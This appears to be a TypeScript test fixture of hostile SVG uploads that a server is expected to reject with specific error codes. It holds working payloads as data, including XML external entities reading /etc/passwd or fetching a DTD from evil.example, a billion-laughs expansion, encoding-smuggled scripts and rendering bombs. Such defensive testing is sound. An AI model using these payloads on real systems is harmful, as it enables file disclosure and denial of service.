import { svg, type RejectedFile } from './hostile-pictures';

/** SVGs that parsers might read in another way, or that would keep a parser busy. */
export const REJECTED_SVGS: RejectedFile[] = [
  [
    'a billion laughs',
    () =>
      svg(
        '<text>&c;</text>',
        '<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>',
      ),
    400,
    'bad-request',
  ],
  [
    'a file of the server in an entity',
    () => svg('<text>&x;</text>', '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    400,
    'bad-request',
  ],
  [
    'a parameter entity',
    () => svg('', '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'),
    400,
    'bad-request',
  ],
  [
    'an SVG in UTF-16',
    () => Buffer.from(`\uFEFF${svg('<path d="M0 0h9"/>')}`, 'utf16le'),
    400,
    'bad-request',
  ],
  [
    'an SVG that says it is in UTF-7',
    () => svg('+ADw-script/+AD4-', '<?xml version="1.0" encoding="UTF-7"?>'),
    400,
    'bad-request',
  ],
  ['an SVG with a null byte', () => svg('<path d="M0 0h9"/><scr\0ipt/>'), 400, 'bad-request'],
  [
    'an SVG that is not closed',
    () => '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9">',
    400,
    'bad-request',
  ],
  [
    'an SVG of another namespace',
    () => '<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>',
    415,
    'unsupported-type',
  ],
  [
    'an SVG without a namespace',
    () => '<svg viewBox="0 0 9 9"><path d="M0 0h9"/></svg>',
    415,
    'unsupported-type',
  ],
  [
    'an SVG of nothing but a script',
    () => svg('<script>alert(1)</script>'),
    415,
    'unsupported-type',
  ],
  [
    'an SVG 1,000,000,000 wide',
    () => svg('<path d="M0 0h9"/>').replace('viewBox', 'width="1e9" height="1e9" viewBox'),
    400,
    'bad-request',
  ],
  [
    'an SVG nested very deep, in letters of any alphabet',
    () => svg('<é>'.repeat(5000) + '</é>'.repeat(5000)),
    400,
    'bad-request',
  ],
  [
    'an SVG with very many attributes',
    () => svg(`<path ${Array.from({ length: 50_000 }, (_, index) => `a${index}=""`).join(' ')}/>`),
    413,
    'drawing-too-complex',
  ],
  [
    'an SVG with a million styles',
    () => svg(`<style>${'g{fill:red}'.repeat(1000)}</style>${'<g/>'.repeat(1000)}`),
    413,
    'drawing-too-complex',
  ],
  [
    'an SVG whose gradients borrow a million colours',
    () =>
      svg(
        `<linearGradient id="a">${'<stop/>'.repeat(1000)}</linearGradient>${'<linearGradient href="#a"/>'.repeat(1000)}`,
      ),
    413,
    'drawing-too-complex',
  ],
  ...['mask', 'clip-path'].map((property): RejectedFile => {
    const name = property === 'mask' ? 'mask' : 'clipPath';
    const shapes = Array.from(
      { length: 9 },
      (_, level) =>
        `<${name} id="a${level}">${`<rect ${property}="url(#a${level + 1})"/>`.repeat(10)}</${name}>`,
    );
    return [
      `an SVG that is rendered a billion times by ${property} within ${property}`,
      () => svg(`${shapes.join('')}<rect ${property}="url(#a0)"/>`),
      413,
      'drawing-too-complex',
    ];
  }),
];
